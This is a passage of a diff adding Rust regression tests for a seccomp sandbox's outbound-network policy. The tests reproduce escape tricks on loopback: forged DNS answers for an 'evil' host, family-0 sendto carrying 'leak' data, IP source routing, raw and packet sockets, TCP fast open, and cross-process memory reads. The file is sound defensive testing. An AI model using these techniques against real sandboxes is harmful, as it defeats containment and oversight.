@@ -1,0 +1,1217 @@
+//! Issue 13, network and report kinds (2, 7, 8, 9, 11, 12): attacks that went around the
+//! outbound and read-handler policies, lost events or overstated the report. Every case runs
+//! under BOTH interceptors, each in its own process (re-executed test binary, with a watchdog).
+//!
+//! Loopback only: a forbidden host is a listener on 127.0.0.2 or higher; "resolvers" are
+//! sockets bound to `127.0.0.x:53` (binding port 53 needs root, as CI has).
+#![allow(missing_docs)]
+// Attack code has to make raw syscalls; the library itself keeps `unsafe` in `sys`.
+#![allow(unsafe_code)]
+
+mod common;
+use common::errno;
+
+use fnshield::{Action, Details, Event, InterceptorChoice, Mechanism, Mode, PolicyKind, Shield};
+use std::net::{SocketAddr, TcpListener, UdpSocket};
+use std::os::fd::AsRawFd;
+use std::path::PathBuf;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+// ---------------------------------------------------------------------------------------------
+// Harness
+// ---------------------------------------------------------------------------------------------
+
+/// The interceptor this case process runs under (`FNSHIELD_IC`).
+fn ic() -> Mechanism {
+    match std::env::var("FNSHIELD_IC").as_deref() {
+        Ok("notify") => Mechanism::SeccompNotify,
+        _ => Mechanism::SeccompTrap,
+    }
+}
+
+/// What a case child did: exit status, stdout, stderr.
+struct Ran {
+    status: std::process::ExitStatus,
+    stdout: String,
+    stderr: String,
+}
+
+/// Run `body` in a fresh process (this binary re-executed, filtered to the calling test) under
+/// interceptor `which`, with a 120 s watchdog; return what it did.
+fn run(name: &str, which: &str, body: fn()) -> Ran {
+    let full = format!("{name}::{which}");
+    if std::env::var("FNSHIELD_CASE").as_deref() == Ok(full.as_str()) {
+        body();
+        println!("CASE-OK");
+        std::process::exit(0);
+    }
+    let mut child = Command::new(std::env::current_exe().unwrap())
+        .args([full.as_str(), "--exact", "--nocapture", "--test-threads=1"])
+        .env("FNSHIELD_CASE", &full)
+        .env("FNSHIELD_IC", which)
+        .env_remove("SHIELD_MODE")
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let (mut out, mut err) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
+    // Readers report through channels, so that a grandchild that keeps a pipe open cannot hang
+    // the harness either.
+    let (tx_out, rx_out) = std::sync::mpsc::channel();
+    let (tx_err, rx_err) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let mut s = String::new();
+        std::io::Read::read_to_string(&mut out, &mut s).ok();
+        let _ = tx_out.send(s);
+    });
+    std::thread::spawn(move || {
+        let mut s = String::new();
+        std::io::Read::read_to_string(&mut err, &mut s).ok();
+        let _ = tx_err.send(s);
+    });
+    // Watchdog: a hung case is killed and fails, never blocks the suite.
+    let deadline = Instant::now() + Duration::from_secs(120);
+    let status = loop {
+        if let Some(st) = child.try_wait().unwrap() {
+            break st;
+        }
+        if Instant::now() > deadline {
+            let _ = child.kill();
+            let st = child.wait().unwrap();
+            panic!("case {full} hung (killed by the watchdog): {st:?}");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    let left = deadline.saturating_duration_since(Instant::now()) + Duration::from_secs(5);
+    let stdout = rx_out
+        .recv_timeout(left)
+        .unwrap_or_else(|_| panic!("case {full}: stdout still open after exit"));
+    let stderr = rx_err
+        .recv_timeout(Duration::from_secs(5))
+        .unwrap_or_default();
+    Ran {
+        status,
+        stdout,
+        stderr,
+    }
+}
+
+/// [`run`], and require that the case finished successfully.
+fn case(name: &str, which: &str, body: fn()) -> String {
+    let r = run(name, which, body);
+    assert!(
+        r.status.success() && r.stdout.contains("CASE-OK"),
+        "case {name}::{which} failed: {:?}\nstdout:\n{}\nstderr:\n{}",
+        r.status,
+        r.stdout,
+        r.stderr
+    );
+    r.stdout
+}
+
+/// One `#[test]` per interceptor for a case body.
+macro_rules! both {
+    ($name:ident, $body:expr) => {
+        mod $name {
+            #[test]
+            fn trap() {
+                super::case(stringify!($name), "trap", $body);
+            }
+            #[test]
+            fn notify() {
+                super::case(stringify!($name), "notify", $body);
+            }
+        }
+    };
+}
+
+fn dirs() -> (PathBuf, PathBuf) {
+    let base = std::env::temp_dir().join(format!("fnshield-anet-{}", std::process::id()));
+    let task = base.join("task");
+    let tmp = base.join("tmp");
+    std::fs::create_dir_all(&task).unwrap();
+    std::fs::create_dir_all(&tmp).unwrap();
+    std::fs::write(task.join("bootstrap"), b"secret code").unwrap();
+    (task, tmp)
+}
+
+/// A shield under this case's interceptor with the common test settings (resolver
+/// 127.0.0.1), plus `f`.
+fn shield(f: impl FnOnce(fnshield::ShieldBuilder) -> fnshield::ShieldBuilder) -> Shield {
+    let (task, tmp) = dirs();
+    let choice = match ic() {
+        Mechanism::SeccompNotify => InterceptorChoice::Notify,
+        _ => InterceptorChoice::Trap,
+    };
+    common::install_shield(&task, &tmp, ic(), |b| f(b.interceptor(choice)))
+}
+
+fn events(s: &Shield) -> Vec<Event> {
+    common::events(s)
+}
+
+fn blocked_net(evs: &[Event], port: u16) -> bool {
+    evs.iter().any(|e| {
+        e.policy == PolicyKind::OutboundConnectivity
+            && e.action == Action::Blocked
+            && matches!(&e.details, Details::Connect { port: p, .. } if *p == port)
+    })
+}
+
+fn any_event(evs: &[Event], policy: PolicyKind, action: Action) -> bool {
+    evs.iter().any(|e| e.policy == policy && e.action == action)
+}
+
+fn sockaddr_in(ip: [u8; 4], port: u16, family: u16) -> libc::sockaddr_in {
+    libc::sockaddr_in {
+        sin_family: family,
+        sin_port: port.to_be(),
+        sin_addr: libc::in_addr {
+            s_addr: u32::from_ne_bytes(ip),
+        },
+        sin_zero: [0; 8],
+    }
+}
+
+fn v4(addr: SocketAddr) -> ([u8; 4], u16) {
+    match addr {
+        SocketAddr::V4(a) => (a.ip().octets(), a.port()),
+        SocketAddr::V6(_) => panic!("v4 expected"),
+    }
+}
+
+/// Raw `connect` of a fresh TCP socket to `ip:port`; 0 or the errno.
+fn connect_raw(ip: [u8; 4], port: u16) -> i32 {
+    let sa = sockaddr_in(ip, port, libc::AF_INET as u16);
+    // SAFETY: plain socket calls with a stack sockaddr_in.
+    unsafe {
+        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
+        let r = libc::syscall(
+            libc::SYS_connect,
+            fd,
+            &sa as *const _,
+            std::mem::size_of_val(&sa) as u32,
+        );
+        let e = if r < 0 { errno() } else { 0 };
+        libc::close(fd);
+        e
+    }
+}
+
+/// Raw `sendto`; (result, errno).
+fn sendto_raw(fd: i32, data: &[u8], flags: i32, sa: *const u8, len: u32) -> (i64, i32) {
+    // SAFETY: raw sendto with buffers that outlive the call.
+    let r = unsafe {
+        libc::syscall(
+            libc::SYS_sendto,
+            fd,
+            data.as_ptr(),
+            data.len(),
+            flags,
+            sa,
+            len,
+        )
+    };
+    (r, if r < 0 { errno() } else { 0 })
+}
+
+/// Nothing arrived at `sock` (non-blocking check after the sender returned: a datagram sent on
+/// loopback is queued before `sendto` returns).
+fn nothing_arrived(sock: &UdpSocket) -> bool {
+    sock.set_nonblocking(true).unwrap();
+    let mut b = [0u8; 64];
+    matches!(sock.recv_from(&mut b), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock)
+}
+
+/// A DNS answer: `name` A `ip`, TTL 300.
+fn dns_answer(name: &str, ip: [u8; 4]) -> Vec<u8> {
+    let mut m = vec![0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
+    for label in name.split('.') {
+        m.push(label.len() as u8);
+        m.extend_from_slice(label.as_bytes());
+    }
+    m.extend_from_slice(&[0, 0, 1, 0, 1]);
+    m.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4]);
+    m.extend_from_slice(&ip);
+    m
+}
+
+/// A DNS query for `name` (type A).
+fn dns_query(name: &str) -> Vec<u8> {
+    let mut m = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
+    for label in name.split('.') {
+        m.push(label.len() as u8);
+        m.extend_from_slice(label.as_bytes());
+    }
+    m.extend_from_slice(&[0, 0, 1, 0, 1]);
+    m
+}
+
+/// `trap` or `notify` (the two run at once: each binds its own port-53 addresses).
+fn per_ic<'a>(trap: &'a str, notify: &'a str) -> &'a str {
+    if ic() == Mechanism::SeccompNotify {
+        notify
+    } else {
+        trap
+    }
+}
+
+/// Bind a UDP socket on `ip:53` (root); panics with a clear message otherwise.
+fn bind53(ip: &str) -> UdpSocket {
+    let at = if ip.contains(':') {
+        format!("[{ip}]:53")
+    } else {
+        format!("{ip}:53")
+    };
+    UdpSocket::bind(at)
+        .unwrap_or_else(|e| panic!("bind {ip}:53 needs root (as CI has) and a free port: {e}"))
+}
+
+// ---------------------------------------------------------------------------------------------
+// Kind 2: learn only from what the kernel reported, and only from resolvers on port 53.
+// ---------------------------------------------------------------------------------------------
+
+/// The issue's input: `recvfrom(.., &sa, &len)` with `len = 0` and `sa` pre-filled as the
+/// resolver 127.0.0.1:53; the answer really came from another port.
+fn k2_recvfrom_addrlen_zero() {
+    let target = TcpListener::bind("127.0.0.2:0").unwrap();
+    let (ip, port) = v4(target.local_addr().unwrap());
+    let s = shield(|b| b);
+    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let attacker = UdpSocket::bind("127.0.0.1:0").unwrap();
+    attacker
+        .send_to(
+            &dns_answer("evil.s3.amazonaws.com", ip),
+            client.local_addr().unwrap(),
+        )
+        .unwrap();
+    let mut sa = sockaddr_in([127, 0, 0, 1], 53, libc::AF_INET as u16);
+    let mut len: u32 = 0;
+    let mut buf = [0u8; 512];
+    // SAFETY: recvfrom into stack buffers that outlive the call.
+    let r = unsafe {
+        libc::recvfrom(
+            client.as_raw_fd(),
+            buf.as_mut_ptr().cast(),
+            buf.len(),
+            0,
+            (&mut sa as *mut libc::sockaddr_in).cast(),
+            &mut len,
+        )
+    };
+    assert!(r > 0, "recvfrom: {}", errno());
+    assert_eq!(
+        connect_raw(ip, port),
+        libc::EPERM,
+        "a name learnt from a forged source"
+    );
+    assert!(blocked_net(&events(&s), port));
+}
+both!(k2_recvfrom_addrlen_zero, super::k2_recvfrom_addrlen_zero);
+
+/// Variant: a short `addrlen` (4): the kernel writes family and port (53, the attacker's
+/// socket is bound to port 53 on a non-resolver address) and leaves the pre-filled resolver
+/// address in place.
+fn k2_recvfrom_short_addrlen() {
+    let target = TcpListener::bind("127.0.0.2:0").unwrap();
+    let (ip, port) = v4(target.local_addr().unwrap());
+    let s = shield(|b| b);
+    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let attacker = bind53(per_ic("127.0.0.93", "127.0.0.94"));
+    attacker
+        .send_to(
+            &dns_answer("evil.s3.amazonaws.com", ip),
+            client.local_addr().unwrap(),
+        )
+        .unwrap();
+    let mut sa = sockaddr_in([127, 0, 0, 1], 9, libc::AF_INET as u16);
+    let mut len: u32 = 4;
+    let mut buf = [0u8; 512];
+    // SAFETY: recvfrom into stack buffers that outlive the call.
+    let r = unsafe {
+        libc::recvfrom(
+            client.as_raw_fd(),
+            buf.as_mut_ptr().cast(),
+            buf.len(),
+            0,
+            (&mut sa as *mut libc::sockaddr_in).cast(),
+            &mut len,
+        )
+    };
+    assert!(r > 0, "recvfrom: {}", errno());
+    // What the kernel reports to the caller is unchanged by the shield.
+    assert_eq!(len, 16, "the kernel reports the full address length");
+    assert_eq!(u16::from_be(sa.sin_port), 53);
+    assert_eq!(connect_raw(ip, port), libc::EPERM);
+    assert!(blocked_net(&events(&s), port));
+}
+both!(k2_recvfrom_short_addrlen, super::k2_recvfrom_short_addrlen);
+
+/// Variant: `recvmsg` with `msg_namelen = 0` and `msg_name` pre-filled as the resolver.
+fn k2_recvmsg_namelen_zero() {
+    let target = TcpListener::bind("127.0.0.2:0").unwrap();
+    let (ip, port) = v4(target.local_addr().unwrap());
+    let s = shield(|b| b);
+    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let attacker = UdpSocket::bind("127.0.0.1:0").unwrap();
+    attacker
+        .send_to(
+            &dns_answer("evil.s3.amazonaws.com", ip),
+            client.local_addr().unwrap(),
+        )
+        .unwrap();
+    // SAFETY: recvmsg into stack buffers that outlive the call.
+    let r = unsafe {
+        let mut buf = [0u8; 512];
+        let mut from = sockaddr_in([127, 0, 0, 1], 53, libc::AF_INET as u16);
+        let mut iov = libc::iovec {
+            iov_base: buf.as_mut_ptr().cast(),
+            iov_len: buf.len(),
+        };
+        let mut msg: libc::msghdr = std::mem::zeroed();
+        msg.msg_name = (&mut from as *mut libc::sockaddr_in).cast();
+        msg.msg_namelen = 0;
+        msg.msg_iov = &mut iov;
+        msg.msg_iovlen = 1;
+        libc::recvmsg(client.as_raw_fd(), &mut msg, 0)
+    };
+    assert!(r > 0, "recvmsg: {}", errno());
+    assert_eq!(connect_raw(ip, port), libc::EPERM);
+    assert!(blocked_net(&events(&s), port));
+}
+both!(k2_recvmsg_namelen_zero, super::k2_recvmsg_namelen_zero);
+
+/// Variant: 127.0.0.1 and ::1 are always *reachable*, but they are not resolvers unless
+/// resolv.conf names them: an answer from 127.0.0.1:53 (trap case) or [::1]:53 (notify case)
+/// teaches nothing when the resolver is 127.0.0.155.
+fn k2_loopback_is_not_a_resolver() {
+    let target = TcpListener::bind("127.0.0.2:0").unwrap();
+    let (ip, port) = v4(target.local_addr().unwrap());
+    let attacker = bind53(per_ic("127.0.0.1", "::1"));
+    let s = shield(|b| b.resolv_conf("nameserver 127.0.0.155\n"));
+    let client = UdpSocket::bind(per_ic("127.0.0.1:0", "[::1]:0")).unwrap();
+    attacker
+        .send_to(
+            &dns_answer("evil.s3.amazonaws.com", ip),
+            client.local_addr().unwrap(),
+        )
+        .unwrap();
+    let mut buf = [0u8; 512];
+    let (_, from) = client.recv_from(&mut buf).unwrap();
+    assert_eq!(from.port(), 53);
+    assert_eq!(connect_raw(ip, port), libc::EPERM);
+    assert!(blocked_net(&events(&s), port));
+}
+both!(
+    k2_loopback_is_not_a_resolver,
+    super::k2_loopback_is_not_a_resolver
+);
+
+/// Control: a genuine answer from the configured resolver on port 53 still teaches the name.
+fn k2_genuine_answer_still_learnt() {
+    let target = TcpListener::bind("127.0.0.2:0").unwrap();
+    let (ip, port) = v4(target.local_addr().unwrap());
+    let rip = per_ic("127.0.0.156", "127.0.0.157");
+    let resolver = bind53(rip);
+    let _s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
+    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
+    resolver
+        .send_to(
+            &dns_answer("good.s3.amazonaws.com", ip),
+            client.local_addr().unwrap(),
+        )
+        .unwrap();
+    let mut buf = [0u8; 512];
+    let (n, from) = client.recv_from(&mut buf).unwrap();
+    assert_eq!(
+        (n, from.port()),
+        (dns_answer("good.s3.amazonaws.com", ip).len(), 53)
+    );
+    assert_eq!(connect_raw(ip, port), 0, "learnt from the resolver");
+}
+both!(
+    k2_genuine_answer_still_learnt,
+    super::k2_genuine_answer_still_learnt
+);
+
+// ---------------------------------------------------------------------------------------------
+// Kind 7: decide on the destination the kernel will use.
+// ---------------------------------------------------------------------------------------------
+
+/// The issue's input: a UDP `sendto` whose sockaddr has family 0 (AF_UNSPEC), which the kernel
+/// treats as AF_INET.
+fn k7_sendto_family_zero() {
+    let target = UdpSocket::bind("127.0.0.2:0").unwrap();
+    let (ip, port) = v4(target.local_addr().unwrap());
+    let s = shield(|b| b);
+    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let sa = sockaddr_in(ip, port, 0);
+    let (r, e) = sendto_raw(
+        sock.as_raw_fd(),
+        b"leak",
+        0,
+        (&sa as *const libc::sockaddr_in).cast(),
+        16,
+    );
+    assert_eq!((r, e), (-1, libc::EPERM));
+    assert!(nothing_arrived(&target));
+    assert!(blocked_net(&events(&s), port));
+}
+both!(k7_sendto_family_zero, super::k7_sendto_family_zero);
+
+/// Variant: family 0 through `sendmsg` and through `sendmmsg` (second message).
+fn k7_sendmsg_sendmmsg_family_zero() {
+    let target = UdpSocket::bind("127.0.0.2:0").unwrap();
+    let (ip, port) = v4(target.local_addr().unwrap());
+    let ok = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let (okip, okport) = v4(ok.local_addr().unwrap());
+    let s = shield(|b| b);
+    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
+    // SAFETY: sendmsg/sendmmsg with stack buffers that outlive the calls.
+    unsafe {
+        let mut bad = sockaddr_in(ip, port, 0);
+        let mut good = sockaddr_in(okip, okport, libc::AF_INET as u16);
+        let mut data = *b"leak";
+        let mut iov = libc::iovec {
+            iov_base: data.as_mut_ptr().cast(),
+            iov_len: 4,
+        };
+        let mut msg: libc::msghdr = std::mem::zeroed();
+        msg.msg_name = (&mut bad as *mut libc::sockaddr_in).cast();
+        msg.msg_namelen = 16;
+        msg.msg_iov = &mut iov;
+        msg.msg_iovlen = 1;
+        let r = libc::sendmsg(sock.as_raw_fd(), &msg, 0);
+        assert_eq!((r, errno()), (-1, libc::EPERM), "sendmsg family 0");
+        let mut good_msg = msg;
+        good_msg.msg_name = (&mut good as *mut libc::sockaddr_in).cast();
+        let mut v: [libc::mmsghdr; 2] = std::mem::zeroed();
+        v[0].msg_hdr = good_msg;
+        v[1].msg_hdr = msg;
+        let r = libc::sendmmsg(sock.as_raw_fd(), v.as_mut_ptr(), 2, 0);
+        assert!(r <= 1, "the family-0 message must not be sent (r = {r})");
+    }
+    assert!(nothing_arrived(&target));
+    assert!(blocked_net(&events(&s), port));
+}
+both!(
+    k7_sendmsg_sendmmsg_family_zero,
+    super::k7_sendmsg_sendmmsg_family_zero
+);
+
+/// Variant: `connect` with family 0 is "disconnect" for UDP (no destination): it is allowed,
+/// and the socket then cannot send without an address.
+fn k7_connect_unspec_disconnects() {
+    let ok = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let _s = shield(|b| b);
+    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
+    sock.connect(ok.local_addr().unwrap()).unwrap();
+    let sa = sockaddr_in([127, 0, 0, 2], 9, 0);
+    // SAFETY: connect with a stack sockaddr.
+    let r = unsafe {
+        libc::connect(
+            sock.as_raw_fd(),
+            (&sa as *const libc::sockaddr_in).cast(),
+            16,
+        )
+    };
+    assert_eq!(r, 0, "AF_UNSPEC connect disconnects: {}", errno());
+    assert_eq!(
+        sock.send(b"x").unwrap_err().raw_os_error(),
+        Some(libc::EDESTADDRREQ)
+    );
+}
+both!(
+    k7_connect_unspec_disconnects,
+    super::k7_connect_unspec_disconnects
+);
+
+/// A type-2 routing header with one segment `seg`.
+fn rthdr(seg: [u8; 16]) -> Vec<u8> {
+    let mut h = vec![0u8, 2, 2, 1, 0, 0, 0, 0];
+    h.extend_from_slice(&seg);
+    h
+}
+
+const IPV6_RTHDR: i32 = 57;
+const IPV6_2292RTHDR: i32 = 5;
+const IP_OPTIONS: i32 = 4;
+const IP_RETOPTS: i32 = 7;
+
+/// An IPv4 loose source route option through 127.0.0.2 (padded to 8 bytes).
+fn lsrr() -> Vec<u8> {
+    vec![0x83, 7, 4, 127, 0, 0, 2, 0]
+}
+
+/// The issue's input: `setsockopt(IPV6_RTHDR)` with one segment `::2`, then `sendto([::1])`:
+/// the datagram would leave for ::2. Refused under outbound block, with an event.
+fn k7_ipv6_rthdr_setsockopt() {
+    let s = shield(|b| b);
+    let sock = UdpSocket::bind("[::1]:0").unwrap();
+    let mut seg = [0u8; 16];
+    seg[15] = 2;
+    for opt in [IPV6_RTHDR, IPV6_2292RTHDR] {
+        let h = rthdr(seg);
+        // SAFETY: setsockopt with a stack buffer.
+        let r = unsafe {
+            libc::setsockopt(
+                sock.as_raw_fd(),
+                libc::IPPROTO_IPV6,
+                opt,
+                h.as_ptr().cast(),
+                h.len() as u32,
+            )
+        };
+        assert_eq!((r, errno()), (-1, libc::EPERM), "option {opt}");
+    }
+    assert!(any_event(
+        &events(&s),
+        PolicyKind::OutboundConnectivity,
+        Action::Blocked
+    ));
+}
+both!(k7_ipv6_rthdr_setsockopt, super::k7_ipv6_rthdr_setsockopt);
+
+/// Variant: IPv4 source routes (`IP_OPTIONS` with LSRR) are refused; options that do not
+/// route (NOPs) are not.
+fn k7_ip_options_source_route() {
+    let _s = shield(|b| b);
+    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let set = |v: &[u8]| {
+        // SAFETY: setsockopt with a stack buffer.
+        let r = unsafe {
+            libc::setsockopt(
+                sock.as_raw_fd(),
+                libc::IPPROTO_IP,
+                IP_OPTIONS,
+                v.as_ptr().cast(),
+                v.len() as u32,
+            )
+        };
+        (r, if r < 0 { errno() } else { 0 })
+    };
+    assert_eq!(set(&lsrr()), (-1, libc::EPERM));
+    let mut ssrr = lsrr();
+    ssrr[0] = 0x89;
+    assert_eq!(set(&ssrr), (-1, libc::EPERM));
+    // NOP, NOP, then LSRR: still a source route.
+    let mut hidden = vec![1u8, 1];
+    hidden.extend_from_slice(&lsrr()[..7]);
+    hidden.extend_from_slice(&[0, 0, 0]);
+    assert_eq!(set(&hidden), (-1, libc::EPERM));
+    assert_eq!(set(&[1, 1, 1, 0]), (0, 0), "NOPs do not route");
+}
+both!(
+    k7_ip_options_source_route,
+    super::k7_ip_options_source_route
+);
+
+/// Variant: routing through control messages: `IPV6_RTHDR` on an IPv6 `sendmsg` and
+/// `IP_RETOPTS` with a source route on an IPv4 `sendmsg`, to an allowed destination.
+fn k7_cmsg_routing() {
+    let ok6 = UdpSocket::bind("[::1]:0").unwrap();
+    let ok4 = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let s = shield(|b| b);
+    let send = |sock: &UdpSocket, to: SocketAddr, level: i32, ty: i32, data: &[u8]| {
+        let (name, namelen): (Vec<u8>, u32) = match to {
+            SocketAddr::V4(a) => {
+                let sa = sockaddr_in(a.ip().octets(), a.port(), libc::AF_INET as u16);
+                // SAFETY: plain-data struct viewed as bytes.
+                let b = unsafe {
+                    std::slice::from_raw_parts((&sa as *const libc::sockaddr_in).cast::<u8>(), 16)
+                };
+                (b.to_vec(), 16)
+            }
+            SocketAddr::V6(a) => {
+                // SAFETY: zeroed sockaddr_in6 is valid plain data.
+                let mut sa: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
+                sa.sin6_family = libc::AF_INET6 as u16;
+                sa.sin6_port = a.port().to_be();
+                sa.sin6_addr.s6_addr = a.ip().octets();
+                // SAFETY: plain-data struct viewed as bytes.
+                let b = unsafe {
+                    std::slice::from_raw_parts((&sa as *const libc::sockaddr_in6).cast::<u8>(), 28)
+                };
+                (b.to_vec(), 28)
+            }
+        };
+        // SAFETY: CMSG macros over a correctly sized, aligned control buffer.
+        unsafe {
+            let space = libc::CMSG_SPACE(data.len() as u32) as usize;
+            let mut ctl = vec![0u64; space.div_ceil(8)];
+            let mut payload = *b"x";
+            let mut iov = libc::iovec {
+                iov_base: payload.as_mut_ptr().cast(),
+                iov_len: 1,
+            };
+            let mut msg: libc::msghdr = std::mem::zeroed();
+            msg.msg_name = name.as_ptr() as *mut _;
+            msg.msg_namelen = namelen;
+            msg.msg_iov = &mut iov;
+            msg.msg_iovlen = 1;
+            msg.msg_control = ctl.as_mut_ptr().cast();
+            msg.msg_controllen = space;
+            let c = libc::CMSG_FIRSTHDR(&msg);
+            (*c).cmsg_level = level;
+            (*c).cmsg_type = ty;
+            (*c).cmsg_len = libc::CMSG_LEN(data.len() as u32) as usize;
+            std::ptr::copy_nonoverlapping(data.as_ptr(), libc::CMSG_DATA(c), data.len());
+            let r = libc::sendmsg(sock.as_raw_fd(), &msg, 0);
+            (r, if r < 0 { errno() } else { 0 })
+        }
+    };
+    let s6 = UdpSocket::bind("[::1]:0").unwrap();
+    let mut seg = [0u8; 16];
+    seg[15] = 2;
+    assert_eq!(
+        send(
+            &s6,
+            ok6.local_addr().unwrap(),
+            libc::IPPROTO_IPV6,
+            IPV6_RTHDR,
+            &rthdr(seg)
+        ),
+        (-1, libc::EPERM)
+    );
+    // The same without a destination address (connected socket).
+    s6.connect(ok6.local_addr().unwrap()).unwrap();
+    let s4 = UdpSocket::bind("127.0.0.1:0").unwrap();
+    assert_eq!(
+        send(
+            &s4,
+            ok4.local_addr().unwrap(),
+            libc::IPPROTO_IP,
+            IP_RETOPTS,
+            &lsrr()
+        ),
+        (-1, libc::EPERM)
+    );
+    assert!(nothing_arrived(&ok4));
+    assert!(nothing_arrived(&ok6));
+    assert!(any_event(
+        &events(&s),
+        PolicyKind::OutboundConnectivity,
+        Action::Blocked
+    ));
+}
+both!(k7_cmsg_routing, super::k7_cmsg_routing);
+
+/// The issue's input: packet sockets (and raw IP sockets) bypass addressing; under outbound
+/// block they cannot be created.
+fn k7_packet_and_raw_sockets() {
+    let s = shield(|b| b);
+    let eth_p_all = (libc::ETH_P_ALL as u16).to_be() as i32;
+    for (family, ty, proto) in [
+        (libc::AF_PACKET, libc::SOCK_RAW, eth_p_all),
+        (libc::AF_PACKET, libc::SOCK_DGRAM, eth_p_all),
+        (libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_UDP),
+        (
+            libc::AF_INET6,
+            libc::SOCK_RAW | libc::SOCK_CLOEXEC,
+            libc::IPPROTO_UDP,
+        ),
+        (libc::AF_INET, 10 /* SOCK_PACKET */, eth_p_all),
+    ] {
+        // SAFETY: socket(2) with integer arguments.
+        let fd = unsafe { libc::socket(family, ty, proto) };
+        let e = errno();
+        if fd >= 0 {
+            // SAFETY: closing the fd we just got.
+            unsafe { libc::close(fd) };
+        }
+        assert_eq!(
+            (fd, e),
+            (-1, libc::EPERM),
+            "socket({family}, {ty}, {proto})"
+        );
+    }
+    // Ordinary sockets still work.
+    UdpSocket::bind("127.0.0.1:0").unwrap();
+    TcpListener::bind("127.0.0.1:0").unwrap();
+    let _ = std::os::unix::net::UnixDatagram::unbound().unwrap();
+    assert!(any_event(
+        &events(&s),
+        PolicyKind::OutboundConnectivity,
+        Action::Blocked
+    ));
+}
+both!(k7_packet_and_raw_sockets, super::k7_packet_and_raw_sockets);
+
+/// Variant: a packet socket that existed before install cannot send to a link-layer address
+/// (an unknown family fails closed).
+fn k7_unknown_family_fails_closed() {
+    // SAFETY: socket(2) with integer arguments (root: CAP_NET_RAW).
+    let fd = unsafe {
+        libc::socket(
+            libc::AF_PACKET,
+            libc::SOCK_DGRAM,
+            (libc::ETH_P_IP as u16).to_be() as i32,
+        )
+    };
+    assert!(fd >= 0, "packet socket needs root: {}", errno());
+    let _s = shield(|b| b);
+    // SAFETY: zeroed sockaddr_ll is valid plain data.
+    let mut ll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
+    ll.sll_family = libc::AF_PACKET as u16;
+    ll.sll_protocol = (libc::ETH_P_IP as u16).to_be();
+    ll.sll_ifindex = 1; // lo
+    ll.sll_halen = 6;
+    let (r, e) = sendto_raw(
+        fd,
+        &[0x45u8; 28],
+        0,
+        (&ll as *const libc::sockaddr_ll).cast(),
+        std::mem::size_of::<libc::sockaddr_ll>() as u32,
+    );
+    assert_eq!((r, e), (-1, libc::EPERM));
+}
+both!(
+    k7_unknown_family_fails_closed,
+    super::k7_unknown_family_fails_closed
+);
+
+/// Variant: TCP fast open (`sendto` with `MSG_FASTOPEN` on an unconnected TCP socket)
+/// connects: it is decided like a connect.
+fn k7_tcp_fastopen() {
+    let target = TcpListener::bind("127.0.0.2:0").unwrap();
+    let (ip, port) = v4(target.local_addr().unwrap());
+    let s = shield(|b| b);
+    // SAFETY: socket(2) with integer arguments.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0) };
+    let sa = sockaddr_in(ip, port, libc::AF_INET as u16);
+    let (r, e) = sendto_raw(
+        fd,
+        b"GET /",
+        libc::MSG_FASTOPEN,
+        (&sa as *const libc::sockaddr_in).cast(),
+        16,
+    );
+    assert_eq!((r, e), (-1, libc::EPERM));
+    let sa0 = sockaddr_in(ip, port, 0);
+    let (r, e) = sendto_raw(
+        fd,
+        b"GET /",
+        libc::MSG_FASTOPEN,
+        (&sa0 as *const libc::sockaddr_in).cast(),
+        16,
+    );
+    assert_ne!(r, 5, "family 0 fast open must not reach 127.0.0.2 ({e})");
+    // SAFETY: closing our fd.
+    unsafe { libc::close(fd) };
+    assert!(blocked_net(&events(&s), port));
+}
+both!(k7_tcp_fastopen, super::k7_tcp_fastopen);
+
+// ---------------------------------------------------------------------------------------------
+// Kind 8: other processes' memory and descriptors.
+// ---------------------------------------------------------------------------------------------
+
+static SECRET: [u8; 16] = *b"other-proc-token";
+
+/// A child forked before install that holds [`SECRET`] and open fds, and waits; killed when
+/// the guard drops (also when an assertion fails).
+struct Sibling(i32);
+
+fn sibling() -> Sibling {
+    // SAFETY: fork in a single-purpose test process; the child only detaches its output and
+    // pauses.
+    let pid = unsafe { libc::fork() };
+    if pid == 0 {
+        // SAFETY: async-signal-safe calls only in the forked child.
+        unsafe {
+            let null = libc::open(c"/dev/null".as_ptr(), libc::O_RDWR);
+            libc::dup2(null, 1);
+            libc::dup2(null, 2);
+            loop {
+                libc::pause();
+            }
+        }
+    }
+    assert!(pid > 0);
+    Sibling(pid)
+}
+
+impl Drop for Sibling {
+    fn drop(&mut self) {
+        // SAFETY: signalling and reaping our own child.
+        unsafe {
+            libc::kill(self.0, libc::SIGKILL);
+            libc::waitpid(self.0, std::ptr::null_mut(), 0);
+        }
+    }
+}
+
+fn vm_read(pid: i32) -> (isize, i32) {
+    let mut buf = [0u8; 16];
+    let local = libc::iovec {
+        iov_base: buf.as_mut_ptr().cast(),
+        iov_len: 16,
+    };
+    let remote = libc::iovec {
+        iov_base: SECRET.as_ptr() as *mut _,
+        iov_len: 16,
+    };
+    // SAFETY: process_vm_readv into a stack buffer.
+    let r = unsafe { libc::process_vm_readv(pid, &local, 1, &remote, 1, 0) };
